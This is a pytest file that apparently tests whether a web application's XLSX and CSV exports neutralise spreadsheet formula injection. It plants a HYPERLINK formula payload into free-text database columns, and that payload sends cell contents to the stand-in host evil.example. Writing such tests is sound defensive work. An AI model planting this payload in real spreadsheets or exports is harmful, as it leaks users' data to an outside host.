"""Issue 17, finding 5: no export writes text from data as a live formula."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import String, Text, cast, literal, update

from fangkong.core.db import Base
from fangkong.core.export import looks_like_formula
from tests.web import test_route_matrix as matrix
from tests.web.test_route_matrix import MATRIX, _concrete

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
FREE_TEXT = {"name", "display_name", "note", "notes", "address", "current_address", "reason", "remark",
             "detail_text", "place", "description", "title", "comment"}
ids = matrix.ids  # the route matrix's fixture: the concrete ids of its paths
EXPORTS = sorted((path, allowed) for (method, template), (path, allowed) in MATRIX.items()
                 if method == "GET" and template.endswith((".xlsx", ".csv")))


def _plant(db) -> None:  # type: ignore[no-untyped-def]
    """Put a formula into every free-text column of every table, as a stranger's form would."""
    with db.engine.begin() as conn:
        for table in Base.metadata.sorted_tables:
            if table.name == "audit_log" or "id" not in table.c:
                continue
            unique_evil = literal(EVIL, String) + cast(table.c.id, String)  # names may be unique per parent
            cols = {c.name: unique_evil for c in table.columns
                    if c.name in FREE_TEXT and isinstance(c.type, String | Text)
                    and (c.type.length is None or c.type.length >= len(EVIL)) and not c.unique}
            if cols:
                conn.execute(update(table).values(**cols))


def _cells(body: bytes, path: str) -> list[object]:
    if path.endswith(".csv"):
        return [cell for line in body.decode("utf-8-sig").splitlines() for cell in line.split(",")]
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(("path", "allowed"), EXPORTS)
def test_export_writes_planted_formulas_as_text(path, allowed, personas, db, ids) -> None:  # type: ignore[no-untyped-def]
    _plant(db)
    role = sorted(allowed)[0]
    r = personas.browser(role).get(_concrete(path, ids))
    assert r.status_code == 200, r.text[:200]
    for cell in _cells(r.content, path):
        if path.endswith(".csv"):
            assert not looks_like_formula(cell), f"{path}: {cell!r}"
        else:
            assert cell.data_type != "f", f"{path} {cell.coordinate}: {cell.value!r}"  # type: ignore[attr-defined]
